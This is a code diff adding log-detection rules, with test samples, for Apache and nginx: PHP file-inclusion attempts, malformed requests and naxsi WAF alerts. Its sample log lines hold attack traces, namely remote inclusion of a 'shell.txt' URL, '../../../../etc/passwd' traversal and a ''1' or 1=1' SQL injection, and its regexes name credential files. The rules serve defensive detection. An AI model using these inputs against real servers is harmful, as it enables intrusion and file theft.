@@ -607,7 +607,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "apache"
         ],
-        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?<what>Invalid URI in request|Invalid method in request|invalid URI path|Cannot map [A-Z]{1,20} \\S{0,2048} to file|request failed: (?:URI too long|malformed request line|erroneous characters after protocol string|error reading the headers|invalid characters in URI)|client sent HTTP/1\\.1 request without hostname|Invalid Content-Length|HTTP Request Line; (?:Invalid method token|Unrecognized protocol|Invalid protocol|URI incorrectly encoded|Extraneous text found|Rejected HTTP/0\\.9 request|Unable to parse URI|Missing URI)|Request header exceeds LimitRequestFieldSize|Request header field is missing ':' separator|Request header (?:field name|value) is malformed|Number of request headers exceeds LimitRequestFields)",
+        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH\\d{5}: )?(?<what>Invalid URI in request|Invalid method in request|invalid URI path|Cannot map [A-Z]{1,20} [^ ]{0,2048}(?: HTTP/\\d\\.\\d)? to file|request failed: (?:URI too long|malformed request line|erroneous characters after protocol string|error reading the headers|invalid characters in URI)|client sent HTTP/1\\.1 request without hostname|Invalid Content-Length|HTTP Request Line; (?:Invalid method token|Unrecognized protocol|Invalid protocol|URI incorrectly encoded|Extraneous text found|Rejected HTTP/0\\.9 request|Unable to parse URI|Missing URI)|Request header exceeds LimitRequestFieldSize|Request header field is missing ':' separator|Request header (?:field name|value) is malformed|Number of request headers exceeds LimitRequestFields)",
         "category": [
           "Recon.Network"
         ],
@@ -673,6 +673,19 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
               "Source": [
                 {
                   "IP": "192.0.2.37"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [core:error] [pid 77] (20024)The given path is misformatted or contained invalid characters: [client 192.0.2.109:3333] AH00127: Cannot map GET /cgi-bin/x:y HTTP/1.1 to file",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.109",
+                  "Port": [
+                    3333
+                  ]
                 }
               ]
             }
@@ -1327,6 +1340,108 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                 }
               ]
             }
+          }
+        ]
+      },
+      {
+        "id": "apache.php-file-inclusion",
+        "programs": [
+          "apache"
+        ],
+        "requires": "PHP ",
+        "pattern": "^\\[client (?:(?<ip4>\\d{1,3}(?:\\.\\d{1,3}){3})(?::(?<port>\\d{1,5}))?|\\[(?<ip6p>[0-9A-Fa-f:.]{2,45})\\]:(?<port6>\\d{1,5})|(?<ip6>[0-9A-Fa-f:]{2,45}))\\] (?:AH01071: Got error ')?(?:PHP message: )?PHP (?:Warning|Fatal error): {1,2}(?<fn>include|include_once|require|require_once)(?:\\(\\)(?: \\[[^\\]]{0,200}\\])?: (?:(?<scheme>https?|ftps?|php|data|expect):// wrapper is disabled in the server configuration|(?<urloff>URL file-access is disabled) in the server configuration|Failed opening (?:required )?'(?<url>(?:(?:https?|ftps?|php|data|expect):|(?=[^']{0,2048}?(?:/etc/passwd|/etc/shadow|/proc/self/|\\.\\./\\.\\./\\.\\./)))[^']{0,2048})')|\\((?<arg>(?:(?:https?|ftps?|php|data|expect):|(?=[^)]{0,2048}?(?:/etc/passwd|/etc/shadow|/proc/self/|\\.\\./\\.\\./\\.\\./)))[^)]{0,2048})\\)(?: \\[[^\\]]{0,200}\\])?: [Ff]ailed to open stream)",
+        "category": [
+          "Access.Other"
+        ],
+        "priority": "Medium",
+        "description": "PHP file inclusion attempt from {ip4}{ip6p}{ip6}: {fn}() of {url}{arg}{scheme}{urloff}",
+        "source": {
+          "address": "{ip4}{ip6p}{ip6}",
+          "port": "{port}{port6}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [php7:warn] [pid 77] [client 192.0.2.100:3333] PHP Warning:  include(): Failed opening 'http://198.51.100.9/shell.txt?' for inclusion (include_path='.:/usr/share/php') in /var/www/html/index.php on line 3",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.100",
+                  "Port": [
+                    3333
+                  ]
+                }
+              ],
+              "Category": [
+                "Access.Other"
+              ],
+              "Priority": "Medium",
+              "Description": "PHP file inclusion attempt from 192.0.2.100: include() of http://198.51.100.9/shell.txt?"
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [php7:warn] [pid 77] [client 192.0.2.101:3333] PHP Warning:  include(): http:// wrapper is disabled in the server configuration by allow_url_include=0 in /var/www/html/index.php on line 3",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.101"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [php:warn] [pid 77] [client 192.0.2.102:3333] PHP Warning:  include(http://198.51.100.9/shell.txt?): Failed to open stream: no suitable wrapper could be found in /var/www/html/index.php on line 3",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.102"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Sat Jun 01 11:23:08 2013] [error] [client 192.0.2.103] PHP Warning:  include() [<a href='function.include'>function.include</a>]: URL file-access is disabled in the server configuration in /var/www/index.php on line 3, referer: http://6.6.6.6/",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.103"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Sat Jun 01 11:23:08 2013] [error] [client 192.0.2.104] PHP Warning:  include(../../../../etc/passwd) [function.include]: failed to open stream: No such file or directory in /var/www/index.php on line 3",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.104"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [proxy_fcgi:error] [pid 77:tid 2] [client 192.0.2.105:3333] AH01071: Got error 'PHP message: PHP Fatal error:  require(): Failed opening required 'ftp://198.51.100.9/x.txt' (include_path='.:/usr/share/php') in /var/www/html/index.php on line 3'",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.105"
+                }
+              ]
+            }
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [php7:warn] [pid 77] [client 192.0.2.106:3333] PHP Warning:  include(): Failed opening 'config/local.php' for inclusion (include_path='.:/usr/share/php') in /var/www/html/index.php on line 3",
+            "expect": null
+          },
+          {
+            "line": "[Tue Mar 05 10:00:01.000001 2019] [php7:warn] [pid 77] [client 192.0.2.107:3333] PHP Warning:  include(../lib/db.php): failed to open stream: No such file or directory in /var/www/html/index.php on line 3",
+            "expect": null
+          },
+          {
+            "line": "[Sat Jun 01 11:23:08 2013] [error] [client 192.0.2.108] PHP Warning:  fopen(http://198.51.100.9/feed.xml): failed to open stream: HTTP request failed! in /var/www/index.php on line 3",
+            "expect": null
           }
         ]
       },
@@ -5978,7 +6093,7 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
         "programs": [
           "nginx"
         ],
-        "pattern": "^client sent (?<what>invalid method|invalid request|invalid host in request line|invalid header line|too long URI|invalid URI|plain HTTP request to HTTPS port)[^,]{0,80}, client: (?<ip>[0-9A-Fa-f:.]{2,45}), server: ",
+        "pattern": "^client sent (?<what>invalid method|invalid request|invalid host in request line|invalid host header|duplicate host header|HTTP/1\\.1 request without \"Host\" header|invalid header line|too long URI|invalid URI|plain HTTP request to HTTPS port)[^,]{0,80}, client: (?<ip>[0-9A-Fa-f:.]{2,45}), server: ",
         "category": [
           "Recon.Network"
         ],
@@ -5997,6 +6112,26 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
               "Source": [
                 {
                   "IP": "192.0.2.52"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2016/05/10 10:00:00 [info] 99#0: *5 client sent invalid host header while reading client request headers, client: 192.0.2.56, server: example.org, request: \"GET / HTTP/1.1\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.56"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2016/05/10 10:00:00 [info] 99#0: *5 client sent HTTP/1.1 request without \"Host\" header while reading client request headers, client: 192.0.2.57, server: example.org, request: \"GET / HTTP/1.1\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.57"
                 }
               ]
             }
@@ -6031,6 +6166,147 @@ export const BUILTIN_RULE_FILES: readonly { readonly file: string; readonly rule
                 }
               ],
               "Priority": "Medium"
+            }
+          }
+        ]
+      },
+      {
+        "id": "nginx.php-file-inclusion",
+        "programs": [
+          "nginx"
+        ],
+        "requires": "FastCGI sent in stderr: \"PHP message: PHP ",
+        "pattern": "^FastCGI sent in stderr: \"(?:PHP message: PHP (?:Warning|Fatal error): {1,2}(?<fn>include|include_once|require|require_once)(?:\\(\\): (?:(?<scheme>https?|ftps?|php|data|expect):// wrapper is disabled in the server configuration by allow_url_(?:include|fopen)=0|Failed opening (?:required )?'(?<url>(?:(?:https?|ftps?|php|data|expect):|(?=[^'\", ]{0,2048}?(?:/etc/passwd|/etc/shadow|/proc/self/|\\.\\./\\.\\./\\.\\./)))[^'\", ]{1,2048})'(?: for inclusion)? \\(include_path='[^'\"]{0,4096}'\\))|\\((?<arg>(?:(?:https?|ftps?|php|data|expect):|(?=[^)'\", ]{0,2048}?(?:/etc/passwd|/etc/shadow|/proc/self/|\\.\\./\\.\\./\\.\\./)))[^)'\", ]{1,2048})\\): [Ff]ailed to open stream: [A-Za-z0-9/.!:_\\\\ -]{0,200}?) in [^ \",]{1,1024} on line \\d{1,9}(?:\\\\n)?){1,4}\" while reading (?:response header from )?upstream, client: (?<ip>[0-9A-Fa-f:.]{2,45}), server: [^ ,\"]{0,256}, request: \"[^\"]{0,8192}\"(?:, [a-z]{2,12}: \"[^\"]{0,8192}\"){0,8}$",
+        "category": [
+          "Access.Other"
+        ],
+        "priority": "Medium",
+        "description": "PHP file inclusion attempt from {ip}: {fn}() of {url}{arg}{scheme}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "2024/01/10 12:00:00 [error] 1234#1234: *5 FastCGI sent in stderr: \"PHP message: PHP Warning:  include(): Failed opening 'http://198.51.100.9/x.txt?' for inclusion (include_path='.:/usr/share/php') in /var/www/index.php on line 3\" while reading response header from upstream, client: 192.0.2.60, server: example.org, request: \"GET /?page=http://198.51.100.9/x.txt? HTTP/1.1\", upstream: \"fastcgi://unix:/run/php/php-fpm.sock:\", host: \"example.org\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.60"
+                }
+              ],
+              "Category": [
+                "Access.Other"
+              ],
+              "Priority": "Medium",
+              "Description": "PHP file inclusion attempt from 192.0.2.60: include() of http://198.51.100.9/x.txt?"
+            }
+          },
+          {
+            "line": "2024/01/10 12:00:00 [error] 1234#1234: *5 FastCGI sent in stderr: \"PHP message: PHP Warning:  include(): http:// wrapper is disabled in the server configuration by allow_url_include=0 in /var/www/index.php on line 3PHP message: PHP Warning:  include(http://198.51.100.9/x.txt?): Failed to open stream: no suitable wrapper could be found in /var/www/index.php on line 3PHP message: PHP Warning:  include(): Failed opening 'http://198.51.100.9/x.txt?' for inclusion (include_path='.:/usr/share/php') in /var/www/index.php on line 3\" while reading response header from upstream, client: 2001:db8::61, server: example.org, request: \"GET /?page=http://198.51.100.9/x.txt? HTTP/1.1\", host: \"example.org\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::61"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2024/01/10 12:00:00 [error] 1234#1234: *5 FastCGI sent in stderr: \"PHP message: PHP Warning:  include(../../../../etc/passwd): failed to open stream: No such file or directory in /var/www/index.php on line 3\" while reading response header from upstream, client: 192.0.2.62, server: example.org, request: \"GET /?page=../../../../etc/passwd HTTP/1.1\", host: \"example.org\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.62"
+                }
+              ]
+            }
+          },
+          {
+            "line": "2024/01/10 12:00:00 [error] 1234#1234: *5 FastCGI sent in stderr: \"PHP message: PHP Warning:  include(): Failed opening 'http://a/' for inclusion (include_path='.') in /a on line 1\" while reading response header from upstream, client: 6.6.6.6, server: x' for inclusion (include_path='.:/usr/share/php') in /var/www/index.php on line 3\" while reading response header from upstream, client: 192.0.2.63, server: example.org, request: \"GET / HTTP/1.1\", host: \"example.org\"",
+            "expect": null
+          },
+          {
+            "line": "2024/01/10 12:00:00 [error] 1234#1234: *5 FastCGI sent in stderr: \"PHP message: PHP Warning:  include(): Failed opening 'inc/menu.php' for inclusion (include_path='.:/usr/share/php') in /var/www/index.php on line 3\" while reading response header from upstream, client: 192.0.2.64, server: example.org, request: \"GET / HTTP/1.1\", host: \"example.org\"",
+            "expect": null
+          }
+        ]
+      },
+      {
+        "id": "nginx.naxsi-fmt",
+        "programs": [
+          "nginx"
+        ],
+        "requires": "NAXSI_FMT: ip=",
+        "pattern": "^NAXSI_FMT: ip=(?<ip>[0-9A-Fa-f:.]{2,45})&server=[^&]{0,256}&uri=(?<uri>[^&]{0,2048})&",
+        "category": [
+          "Access.Unauthorized"
+        ],
+        "priority": "Medium",
+        "description": "naxsi flagged a request from {ip} for {uri}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "2013/11/10 07:36:19 [error] 8278#0: *5932 NAXSI_FMT: ip=192.0.2.65&server=198.51.100.2&uri=/phpMyAdmin-2.8.2/scripts/setup.php&learning=0&vers=0.52&total_processed=472&total_blocked=204&block=0&cscore0=$UWA&score0=8&zone0=HEADERS&id0=42000227&var_name0=user-agent, client: 192.0.2.65, server: blog.example.org, request: \"GET /phpMyAdmin-2.8.2/scripts/setup.php HTTP/1.1\", host: \"198.51.100.2\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.65"
+                }
+              ],
+              "Category": [
+                "Access.Unauthorized"
+              ],
+              "Priority": "Medium"
+            }
+          },
+          {
+            "line": "2024/01/10 12:00:00 [error] 1234#1234: *5 NAXSI_FMT: ip=2001:db8::66&server=example.org&uri=/&learning=1&vers=1.3&total_processed=1&total_blocked=1&block=1&cscore0=$SQL&score0=8&zone0=ARGS&id0=1000&var_name0=q, client: 2001:db8::66, server: example.org, request: \"GET /?q=1%27%20or%201=1 HTTP/1.1\", host: \"example.org\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "2001:db8::66"
+                }
+              ]
+            }
+          }
+        ]
+      },
+      {
+        "id": "nginx.naxsi-exlog",
+        "programs": [
+          "nginx"
+        ],
+        "requires": "NAXSI_EXLOG: ip=",
+        "pattern": "^NAXSI_EXLOG: ip=(?<ip>[0-9A-Fa-f:.]{2,45})&server=[^&]{0,256}&uri=(?<uri>[^&]{0,2048})&",
+        "category": [
+          "Access.Unauthorized"
+        ],
+        "priority": "Low",
+        "description": "naxsi matched a rule in a request from {ip} for {uri}",
+        "source": {
+          "address": "{ip}"
+        },
+        "target": {
+          "service": "http"
+        },
+        "samples": [
+          {
+            "line": "2024/01/10 12:00:00 [error] 1234#1234: *5 NAXSI_EXLOG: ip=192.0.2.67&server=example.org&uri=/&id=1000&zone=ARGS&var_name=q&content=1' or 1=1, client: 192.0.2.67, server: example.org, request: \"GET /?q=1%27%20or%201=1 HTTP/1.1\", host: \"example.org\"",
+            "expect": {
+              "Source": [
+                {
+                  "IP": "192.0.2.67"
+                }
+              ],
+              "Priority": "Low"
             }
           }
         ]
